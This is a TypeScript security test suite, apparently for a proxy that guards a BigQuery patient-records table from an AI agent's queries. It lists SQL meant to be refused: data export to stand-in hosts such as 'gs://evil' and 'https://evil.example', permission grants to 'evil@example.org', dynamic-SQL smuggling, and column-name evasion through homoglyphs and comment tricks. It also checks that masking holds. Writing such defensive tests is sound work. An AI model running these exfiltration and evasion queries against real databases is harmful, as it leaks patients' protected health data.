/**
 * Threat-model rows 8 to 10, 13 to 19, 25 to 38, 41 and 42: statements that move, keep, hide or rename the data, and texts that
 * two readers could take for different statements. What is not served is refused in BigQuery's form, and recorded.
 */
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { PROJECT, type Rig, startRig } from "../rig.ts";
import { Attacker, assertQueryRefused, assertSafe, withPatients } from "./attacker.ts";
import { type ProtectedValues, protectedValues } from "./protected-values.ts";

const P = `\`${PROJECT}.ehr.patients\``;

const REFUSED: Readonly<Record<string, readonly string[]>> = {
  "8": [
    "CREATE TEMP TABLE t AS SELECT vin FROM p",
    "CREATE TEMP TABLE t AS SELECT vin FROM p; SELECT * FROM t",
    "SELECT * FROM _SESSION.t",
    "DECLARE v STRING DEFAULT (SELECT ANY_VALUE(vin) FROM p); SELECT v",
    "BEGIN TRANSACTION; SELECT vin FROM p; COMMIT TRANSACTION",
  ],
  "9": [
    "CREATE TABLE ops.copy AS SELECT * FROM p",
    "CREATE OR REPLACE TABLE ops.calendar AS SELECT vin AS day FROM p",
    "INSERT INTO ops.calendar (weekday) SELECT vin FROM p",
    "INSERT ops.calendar (weekday) VALUES ((SELECT ANY_VALUE(vin) FROM p))",
    "MERGE ops.calendar c USING p ON FALSE WHEN NOT MATCHED THEN INSERT (weekday) VALUES (vin)",
    "UPDATE ops.calendar SET weekday = (SELECT ANY_VALUE(vin) FROM p) WHERE TRUE",
    "DELETE FROM ops.calendar WHERE weekday IN (SELECT vin FROM p)",
    "TRUNCATE TABLE ops.calendar",
  ],
  "10": [
    "CREATE VIEW ops.v AS SELECT vin FROM p",
    "CREATE MATERIALIZED VIEW ops.v AS SELECT vin FROM p",
    "CREATE TABLE FUNCTION ops.f() AS SELECT vin FROM p",
    "SELECT * FROM ops.f()",
    "SELECT ops.f(vin) FROM p",
    "CALL ops.f()",
  ],
  "13": [
    "SELECT * FROM INFORMATION_SCHEMA.JOBS",
    "SELECT query FROM `region-us`.INFORMATION_SCHEMA.JOBS_BY_PROJECT",
    "SELECT * FROM ehr.INFORMATION_SCHEMA.PARTITIONS",
    "SELECT * FROM `demo-clinic`.`region-us`.INFORMATION_SCHEMA.TABLE_STORAGE",
    "SELECT * FROM ehr.__TABLES_SUMMARY__",
  ],
  "14": [
    "CREATE TABLE ops.t (x STRING DEFAULT (SELECT ANY_VALUE(vin) FROM p))",
    "ALTER TABLE ops.calendar ALTER COLUMN weekday SET DEFAULT 'x'",
  ],
  "15": [
    "CREATE TEMP FUNCTION f() AS ((SELECT ANY_VALUE(vin) FROM p)); SELECT f()",
    "CREATE TEMP FUNCTION f(x ANY TYPE) AS (x); SELECT f(vin) FROM p",
  ],
  "16": ["CREATE TEMP FUNCTION f(s STRING) RETURNS STRING LANGUAGE js AS 'throw s'; SELECT f(vin) FROM p"],
  "17": [
    "CREATE FUNCTION ops.f(s STRING) RETURNS STRING REMOTE WITH CONNECTION `us.c` OPTIONS (endpoint = 'https://evil.example')",
    "SELECT AI.GENERATE(('say', vin)) FROM p",
    "SELECT * FROM ML.GENERATE_TEXT(MODEL ops.m, (SELECT vin AS prompt FROM p))",
    "SELECT AI.IF(('is it', vin)) FROM p",
  ],
  "18": [
    "EXPORT DATA OPTIONS (uri = 'gs://evil/*.csv', format = 'CSV') AS SELECT vin FROM p",
    "EXPORT DATA WITH CONNECTION `us.c` OPTIONS (uri = 's3://evil/*', format = 'JSON') AS SELECT 1",
    "EXPORT MODEL ops.m OPTIONS (uri = 'gs://evil')",
    "/* harmless */ EXPORT DATA OPTIONS (uri = 'gs://evil/*') AS (SELECT * FROM p)",
  ],
  "19": [
    "SELECT * FROM EXTERNAL_QUERY('us.c', 'SELECT 1')",
    "SELECT * FROM EXTERNAL_QUERY('us.c', CONCAT('SELECT ', (SELECT ANY_VALUE(vin) FROM p)))",
    "CREATE EXTERNAL TABLE ops.x OPTIONS (format = 'CSV', uris = ['gs://evil/x'])",
    "LOAD DATA INTO ops.calendar FROM FILES (format = 'CSV', uris = ['gs://evil/x'])",
  ],
  "25": [
    "CREATE MODEL ops.m OPTIONS (model_type = 'linear_reg') AS SELECT vin AS label FROM p",
    "SELECT * FROM ML.WEIGHTS(MODEL ops.m)",
    "SELECT * FROM ML.FEATURE_INFO(MODEL ops.m)",
  ],
  "26": [
    "FROM p |> INSERT INTO ops.calendar",
    "FROM p |> EXPORT DATA OPTIONS (uri = 'gs://evil/*')",
    "FROM p |> TEE (|> SELECT vin)",
    "FROM p |> CREATE TABLE ops.t",
    "FROM p |> SELECT vin",
    "FROM p |> CALL f()",
    "FROM p |> FORK (|> SELECT vin)",
  ],
  "27": [
    "SELECT full_name FROM p WHERE SEARCH(p, '123')",
    "SELECT SEARCH(p, '123') FROM p",
    "SELECT * FROM VECTOR_SEARCH(TABLE p, 'x', (SELECT 1))",
    "CREATE SEARCH INDEX i ON ehr.patients (ALL COLUMNS)",
  ],
  "28": [
    "CREATE SNAPSHOT TABLE ops.s CLONE p",
    "CREATE TABLE ops.s CLONE p",
    "CREATE TABLE ops.s COPY p",
    "UNDROP SCHEMA ehr",
  ],
  "29": [
    "SELECT vin FROM p FOR SYSTEM_TIME AS OF TIMESTAMP_SUB(CURRENT_TIMESTAMP(), INTERVAL 1 HOUR)",
    "SELECT full_name FROM p FOR SYSTEM_TIME AS OF TIMESTAMP '2020-01-01'",
    "SELECT day FROM ops.calendar FOR SYSTEM_TIME AS OF (SELECT MAX(created_at) FROM p)",
    "SELECT * FROM `demo-clinic.ehr.patients@-3600000`",
    "SELECT * FROM `demo-clinic.ehr.patients@0`",
    "SELECT * FROM `demo-clinic.ehr.patients$20260101`",
    "SELECT * FROM `demo-clinic.ehr.patients$__PARTITIONS_SUMMARY__`",
  ],
  "30": [
    "SELECT vin FROM APPENDS(TABLE ehr.patients, NULL, NULL)",
    "SELECT * FROM CHANGES(TABLE ehr.patients, NULL, CURRENT_TIMESTAMP())",
  ],
  "31": [
    "DECLARE v STRING; SET v = (SELECT ANY_VALUE(vin) FROM p); IF v < '5' THEN SELECT 1; END IF",
    "SET @@query_label = 'a:b'",
    "SELECT @@error.message",
    "SELECT @@script.bytes_processed",
    "SELECT @@last_job_id",
    "SELECT SESSION_USER()",
  ],
  "32": [
    "SELECT * FROM `demo-clinic.ehr.pat*`",
    "SELECT * FROM `demo-clinic.ehr.*` WHERE _TABLE_SUFFIX = 'patients'",
    "SELECT * FROM `demo-clinic.*.patients`",
    "SELECT vin FROM `demo-clinic.ehr.patient*`",
  ],
  "33": [
    "EXECUTE IMMEDIATE 'SELECT vin FROM p'",
    "EXECUTE IMMEDIATE CONCAT('SELECT ', 'vin', ' FROM p')",
    "EXECUTE IMMEDIATE (SELECT ANY_VALUE(vin) FROM p)",
    "EXECUTE IMMEDIATE 'SELECT @v' USING (SELECT ANY_VALUE(vin) FROM p) AS v",
    "DECLARE s STRING DEFAULT 'SELECT vin FROM p'; EXECUTE IMMEDIATE s",
    "DECLARE s STRING DEFAULT (SELECT ANY_VALUE(vin) FROM p); EXECUTE IMMEDIATE s",
    "DECLARE s STRING DEFAULT 'SELECT 1'; IF EXISTS (SELECT 1 FROM p WHERE vin > 'M') THEN SET s = 'SELECT 2'; END IF; EXECUTE IMMEDIATE s",
  ],
  "34": [
    "CREATE ROW ACCESS POLICY r ON ehr.patients GRANT TO ('allUsers') FILTER USING (ssn = '1')",
    "DROP ALL ROW ACCESS POLICIES ON ehr.patients",
    "GRANT `roles/bigquery.dataViewer` ON SCHEMA ehr TO 'user:evil@example.org'",
  ],
  "35": [
    "SET @@query_label = CONCAT('x:', (SELECT ANY_VALUE(vin) FROM p))",
    "ALTER TABLE ehr.patients SET OPTIONS (description = 'x')",
    "ALTER TABLE ehr.patients RENAME TO harmless",
    "ALTER TABLE ehr.patients RENAME COLUMN vin TO day",
  ],
  "38": [
    "SELECT * FROM (SELECT gender, vin FROM p) PIVOT (COUNT(*) FOR vin IN ('a', 'b'))",
    "SELECT * FROM (SELECT gender, vin FROM p) PIVOT (ANY_VALUE(vin) FOR gender IN ('F'))",
  ],
  "42": [
    "GRAPH g MATCH (n) RETURN n.vin",
    "SELECT * FROM GRAPH_TABLE(g MATCH (n) COLUMNS (n.vin))",
    "SHOW TABLES",
    "EXPLAIN SELECT vin FROM p",
    "DESCRIBE p",
    "ANALYZE",
    "TABLE p",
    "VALUES (1)",
    "SELECT FROM p",
    "SELECT 1 AS",
    "",
    ";",
    "SELECT 1;; SELECT 2",
    "SELECT vin FROM p MATCH_RECOGNIZE (PATTERN (a))",
    "SELECT 1 FROM p FOR UPDATE",
  ],
};

/** Texts in which a careless reader sees no protected column. */
const TEXTS: readonly string[] = [
  "SELECT 1 /* /* */ , vin FROM p -- */",
  "SELECT 1 -- comment\r, vin FROM p",
  "SELECT 1 # comment\r\n, vin FROM p",
  "SELECT/**/vin/**/FROM/**/p",
  "SELECT\u00a0vin FROM p",
  "SELECT\u2003vin\u3000FROM p",
  "SELECT\u0000vin FROM p",
  "SELECT v\u200bin FROM p",
  "SELECT \u202evin\u202c FROM p",
  "SELECT vi\u0144 FROM p",
  "SELECT \uff56\uff49\uff4e FROM p",
  "SELECT v\u0456n FROM p",
  "SELECT `vin` FROM p",
  "SELECT `v\\x69n` FROM p",
  "SELECT `\\u0076in` FROM p",
  "SELECT p.`vin` FROM p",
  "SELECT 'a\\'', vin FROM p --'",
  "SELECT '''a'b''', vin FROM p --'''",
  'SELECT r"\\", vin FROM p',
  "SELECT r'\\', vin, '\\' FROM p",
  "SELECT b'\\xff', vin FROM p",
  "SELECT 'a' /*' , 'b' */ , vin FROM p",
  'SELECT "/*", vin, "*/" FROM p',
  "SELECT '--', vin FROM p",
  "SELECT 1e0, p.vin FROM p",
  "SELECT 0x1, vin FROM p",
  "SELECT vin, FROM p",
  "SELECT 1 `x` , vin FROM p",
  "SELECT vin",
  "\ufeffSELECT vin FROM p",
  "SELECT @@vin, vin FROM p",
];

const NAMES: readonly string[] = [
  "SELECT VIN FROM p",
  "SELECT Vin AS Day FROM p",
  "SELECT P.vIN FROM p",
  "SELECT full_name AS vin, vin AS full_name FROM p",
  "SELECT p.vin FROM (SELECT full_name AS vin, vin AS full_name FROM p) q JOIN p ON TRUE",
  "WITH calendar AS (SELECT vin AS day FROM p) SELECT day FROM calendar",
  "WITH patients AS (SELECT 1 AS vin) SELECT vin FROM ehr.patients",
  "WITH a AS (SELECT 1 AS vin), b AS (WITH a AS (SELECT vin FROM p) SELECT * FROM a) SELECT * FROM b",
  "SELECT (SELECT vin FROM ops.calendar LIMIT 1) FROM p",
  "SELECT (SELECT ANY_VALUE(vin) FROM UNNEST([1])) FROM p",
  "SELECT day.vin FROM p AS day",
  "SELECT ehr.patients.vin FROM ehr.patients",
  "SELECT `ehr.patients`.vin FROM ehr.patients",
  "SELECT `ehr.patients`.vin FROM `ehr.patients`",
  "SELECT `ehr.patients`.* FROM `ehr.patients`",
  "SELECT vin FROM ops.calendar, (SELECT `ehr.patients`.vin FROM `ehr.patients`)",
  "SELECT x.* FROM (SELECT vin AS day FROM p) AS x",
  "SELECT day FROM (SELECT vin AS day FROM p) ORDER BY day",
  "SELECT a FROM p, UNNEST([vin]) AS a",
  "SELECT weekday FROM ops.calendar, (SELECT 1) UNION ALL SELECT vin FROM p",
  "SELECT weekday FROM ops.calendar UNION ALL BY NAME SELECT vin AS weekday FROM p",
  "SELECT weekday FROM ops.calendar UNION ALL CORRESPONDING SELECT vin AS weekday FROM p",
  "SELECT vin FROM `DEMO-CLINIC.ehr.patients`",
  "SELECT vin FROM `demo-clinic`.ehr.PATIENTS",
  "SELECT vin FROM `demo-clinic.ehr`.patients",
  "SELECT vin FROM demo-clinic.ehr.patients",
  "SELECT vin FROM `other-project.ehr.patients`",
  "SELECT contacts[OFFSET(0)].phone || vin FROM p",
  "SELECT Address.STREET FROM p",
];

describe("statements that move, keep, hide or rename", () => {
  let rig: Rig;
  let secrets: ProtectedValues;
  let agent: Attacker;
  before(async () => {
    rig = await startRig({ patients: 30 });
    secrets = await protectedValues(rig);
    agent = new Attacker(rig, await rig.token("care-summary-agent"), secrets);
  });
  after(async () => {
    agent.close();
    await rig.close();
  });

  const dataset = { defaultDataset: { datasetId: "ops" } };

  for (const [row, statements] of Object.entries(REFUSED))
    for (const sql of statements)
      it(`row ${row}: ${sql === "" ? "(nothing)" : sql} is refused`, async () => {
        const { last } = await assertQueryRefused(rig, agent, withPatients(sql));
        assert.ok(last.status === 400 || last.status === 403 || last.status === 404);
      });
  for (const sql of TEXTS)
    it(`row 36: ${JSON.stringify(sql)} hides no column`, () =>
      assertQueryRefused(rig, agent, withPatients(sql)).then(() => {}));
  for (const sql of NAMES)
    it(`row 37: ${sql} hides no column`, () =>
      assertQueryRefused(rig, agent, withPatients(sql), dataset).then(() => {}));

  it("row 36: what a text says in quotes is no column upstream either", async () => {
    for (const [sql, value] of [
      [`SELECT "vin" AS x FROM ${P} LIMIT 1`, "vin"],
      [`SELECT 'a\\' , vin FROM ${P} --' AS x`, `a' , vin FROM ${P} --`],
      [`SELECT '/*' AS x --, vin FROM ${P} */`, "/*"],
      [`SELECT """'vin" """ AS x`, `'vin" `],
      [`SELECT r'\\' AS x /*' , vin FROM ${P} */`, undefined],
      [`SELECT '\\u0027; SELECT vin FROM x --' AS x`, "'; SELECT vin FROM x --"],
      [`SELECT 'it''s' AS x`, undefined],
      [`SELECT '$1' AS x`, "$1"],
    ] as const) {
      const loot = await assertSafe(rig, agent, sql);
      if (value !== undefined) assert.equal(loot.rows?.[0]?.f[0]?.v, value, sql);
    }
  });

  // Where * shifts its columns, each mask must stay with its own column.
  const inner = `(SELECT patient_id, ssn, full_name FROM ${P})`;
  for (const sql of [
    `SELECT * FROM ${inner} a JOIN (SELECT patient_id, mrn FROM ${P}) b USING (patient_id)`,
    `SELECT * FROM (SELECT full_name, patient_id FROM ${P}) a JOIN (SELECT ssn, patient_id, mrn FROM ${P}) b USING (patient_id)`,
    `SELECT * FROM (SELECT full_name, patient_id FROM ${P}) a RIGHT JOIN (SELECT ssn, patient_id, mrn FROM ${P}) b USING (patient_id)`,
    `SELECT * FROM (SELECT full_name, patient_id FROM ${P}) a FULL JOIN (SELECT ssn, patient_id, mrn FROM ${P}) b USING (patient_id)`,
    `SELECT b.*, a.* FROM (SELECT patient_id, full_name FROM ${P}) a JOIN (SELECT patient_id, ssn, mrn FROM ${P}) b USING (patient_id)`,
    `SELECT * FROM ${inner} q, UNNEST(['a', 'b']) u WITH OFFSET o`,
    `SELECT * FROM ${inner} q, UNNEST(['a', 'b']) u WITH OFFSET`,
    `SELECT * FROM UNNEST(['a']) full_name2 WITH OFFSET ssn2, ${inner} q`,
    `SELECT * FROM UNNEST([STRUCT('a' AS first, 1 AS n)]), ${inner} q`,
    `SELECT * FROM UNNEST([STRUCT('a' AS first, STRUCT(1 AS n) AS s)]) WITH OFFSET w, ${inner} q`,
    `SELECT * EXCEPT (patient_id) FROM ${inner} q`,
    `SELECT * REPLACE (1 AS patient_id) FROM ${inner} q`,
    `SELECT q.* EXCEPT (full_name), 1 AS full_name FROM ${inner} q`,
    `SELECT s.* FROM (SELECT STRUCT(patient_id, full_name, ssn, mrn) AS s FROM ${P})`,
    `SELECT * FROM (SELECT full_name AS a, ssn FROM ${P} UNION ALL SELECT ssn, full_name FROM ${P})`,
    `WITH w AS (SELECT ssn, full_name FROM ${P}) SELECT * FROM w, w AS v`,
    `FROM ${P} |> SELECT full_name, ssn, mrn |> EXTEND 1 AS one |> DROP full_name`,
    `FROM ${P} |> SELECT full_name, ssn |> RENAME ssn AS full_name2, full_name AS ssn2`,
  ])
    it(`row 41: ${sql.replaceAll(P, "p")} keeps each mask with its column`, async () => {
      const loot = await assertSafe(rig, agent, sql);
      for (const column of ["ssn", "mrn", "patient_id"]) {
        const at = loot.columns.indexOf(column);
        for (const { f } of at === -1 || sql.includes(`1 AS ${column}`) ? [] : (loot.rows ?? []))
          assert.match(String(f[at]?.v), column === "ssn" ? /^(XXXXX\d{4}|null)$/ : /^([A-Za-z0-9_+/=-]{12,}|null)$/);
      }
      const name = loot.columns.indexOf("full_name");
      if (name !== -1 && !sql.includes("1 AS full_name"))
        for (const { f } of loot.rows ?? []) assert.doesNotMatch(String(f[name]?.v), /\d/);
    });

  it("row 41: SELECT * USING, where it runs, gives the joined column first and the rest masked", async () => {
    const loot = await agent.attack(
      `SELECT * FROM (SELECT full_name, patient_id FROM ${P}) a JOIN (SELECT ssn, patient_id FROM ${P}) b USING (patient_id)`,
    );
    assert.deepEqual(loot.columns, ["patient_id", "full_name", "ssn"]);
    assert.equal(loot.rows?.length, 30);
    for (const { f } of loot.rows ?? []) assert.match(String(f[2]?.v), /^XXXXX\d{4}$/);
  });
});
